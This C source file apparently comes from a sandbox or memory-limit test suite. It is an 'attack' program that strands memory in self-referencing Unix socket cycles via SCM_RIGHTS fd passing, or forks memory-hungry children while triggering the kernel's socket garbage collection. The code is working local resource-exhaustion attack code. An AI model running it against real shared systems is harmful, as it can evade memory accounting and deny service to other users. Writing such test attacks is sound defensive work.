/* Leaves memory in sockets that only they themselves hold, or takes 96 MiB in small children: at once, or after so many
 * seconds, while it has the kernel look for such sockets. */
#include "attack.h"

#include <sys/socket.h>

static int put(const int *s, const int *fds, size_t count)
{
    char c[CMSG_SPACE(3 * sizeof *fds)] = {0};
    struct iovec v = {"x", 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = c};
    m.msg_controllen = CMSG_SPACE(count * sizeof *fds);
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(count * sizeof *fds);
    memcpy(CMSG_DATA(h), fds, count * sizeof *fds);
    return sendmsg(s[0], &m, 0) < 0;
}
/* The file below so many sockets, of which each lies in the next and the last in itself. */
static int leave_file(int f, int mib, int depth)
{
    int s[2], failed = fallocate(f, 0, 0, (off_t)mib << 20);
    socketpair(AF_UNIX, SOCK_DGRAM, 0, s);
    failed |= put(s, &f, 1);
    for (; depth > 0; depth--) {
        int outer[2];
        failed |= socketpair(AF_UNIX, SOCK_DGRAM, 0, outer) || put(outer, s + 1, 1);
        close(s[0]), close(s[1]);
        memcpy(s, outer, sizeof s);
    }
    return failed | put(s, s, 2);
}
static int leave_data(int mib)
{
    static char b[1 << 15];
    for (int left = mib << 20, s[2], n; left > 0;) {
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s) || put(s, s, 2))
            return 1;
        for (int i = 0; i < 2; i++)
            while ((n = (int)write(s[i], b, sizeof b)) > 0)
                left -= n;
    }
    return 0;
}
static int take(double after)
{
    for (int i = 0; i < 12; i++)
        if (fork() == 0) {
            rest(after);
            memset(malloc(8 << 20), 1, 8 << 20);
            pause();
        }
    for (int i = 0; i < 100; i++) {
        int s[2];
        socketpair(AF_UNIX, SOCK_DGRAM, 0, s);
        close(s[0]), close(s[1]);
        rest(.01);
    }
    return 0;
}
int main(int c, char **v)
{
    if (strcmp(v[1], "memory") == 0)
        return leave_file(syscall(SYS_memfd_create, "x", 0), 50, 0);
    if (strcmp(v[1], "file") == 0) {
        int f = open("x", O_RDWR | O_CREAT, 0600);
        unlink("x");
        return leave_file(f, atoi(v[2]), atoi(v[3]));
    }
    return strcmp(v[1], "data") == 0 ? leave_data(180) : take(atof(v[1]));
}
